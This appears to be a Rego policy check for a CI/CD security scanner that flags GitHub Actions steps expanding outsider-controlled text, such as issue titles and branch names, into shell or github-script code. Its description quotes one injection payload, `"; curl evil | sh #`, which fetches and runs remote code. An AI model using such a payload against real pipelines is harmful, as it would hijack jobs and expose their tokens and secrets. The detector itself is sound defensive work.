# METADATA
# title: "Untrusted input expanded into a run script"
# description: "Text an outsider controls (an issue title, a PR body, a branch name, a commit message) written as `${{ ... }}` inside `run:` is pasted into the shell script before it runs: a title like `\"; curl evil | sh #` executes with the job's token and secrets."
# custom:
#   id: gha-script-injection
#   input: github-actions
#   severity: high
#   cwe: [CWE-78]
#   benchmark:
#     - "OWASP CI/CD Top 10: CICD-SEC-4 Poisoned Pipeline Execution"
#   remediation: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script."
package palisade.checks.github_actions.gha_script_injection

import rego.v1
import data.palisade.lib.actions as gha

deny contains {"msg": sprintf("step %q expands untrusted %q into its script", [gha.step_name(s), expr]), "path": array.concat(s.path, ["run"]), "match": m} if {
	some s in gha.steps
	is_string(s.step.run)
	some m in regex.find_n(`\$\{\{[^}]*\}\}`, s.step.run, -1)
	expr := trim_space(trim_suffix(trim_prefix(m, "${{"), "}}"))
	gha.untrusted(expr)
}

deny contains {"msg": sprintf("step %q expands untrusted %q into its script", [gha.step_name(s), expr]), "path": array.concat(s.path, ["with", "script"]), "match": m} if {
	some s in gha.steps
	startswith(object.get(s.step, "uses", ""), "actions/github-script")
	is_string(s.step["with"].script)
	some m in regex.find_n(`\$\{\{[^}]*\}\}`, s.step["with"].script, -1)
	expr := trim_space(trim_suffix(trim_prefix(m, "${{"), "}}"))
	gha.untrusted(expr)
}
